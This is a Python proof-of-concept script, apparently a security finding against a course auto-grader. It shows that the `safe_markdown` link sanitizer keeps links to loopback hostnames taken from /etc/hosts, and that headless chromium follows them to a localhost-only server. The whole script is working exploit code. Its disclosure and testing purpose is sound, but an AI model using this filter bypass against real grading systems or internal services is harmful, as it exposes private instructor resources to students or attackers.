"""a06: `_local_link` drops localhost / 127.0.0.0/8 / ::1 however spelled, but not the names this machine's
/etc/hosts gives to its loopback address: here `vm` (the hostname, socket.gethostname()) and `runsc` map to
127.0.0.1 (Debian's usual `127.0.1.1 <hostname>`, `ip6-localhost`, RHEL's `localhost.localdomain` likewise). Offline:
which the course keeps; then chromium (headless) follows `http://<hostname>:PORT/` to a server listening on 127.0.0.1
only, as the TA's Jupyter server does (ServerApp.ip = localhost)."""
import os, sys, socket, subprocess, time, threading, http.server
sys.path.insert(0, (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))))
from grader.feedback import safe_markdown
PORT = 8946
names = [socket.gethostname()] + [l.split()[1] for l in open("/etc/hosts") if l.strip() and not l.startswith("#") and l.split()[0].startswith("127.") and len(l.split()) > 1]
names = sorted(set(names) - {"localhost"})
for n in names:
    h = safe_markdown(f"[x](http://{n}:{PORT}/nbconvert/html/submitted/mallory43u/ps1_memory/ps1_memory.ipynb)")
    print(f"{n!r}: resolves to {socket.gethostbyname(n)}; link kept by the course: {'href' in h}")
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(f"REACHED loopback server: {self.path} Host={self.headers['Host']}".encode())
    def log_message(self, *a): pass
srv = http.server.HTTPServer(("127.0.0.1", PORT), H); threading.Thread(target=srv.serve_forever, daemon=True).start()
for n in names:
    out = subprocess.run(["timeout", "60", "chromium", "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", f"http://{n}:{PORT}/nbconvert/html/x"],
                         capture_output=True, text=True).stdout
    print(f"chromium http://{n}:{PORT}/ ->", out.replace("<html><head></head><body>", "").strip()[:160])
srv.shutdown()
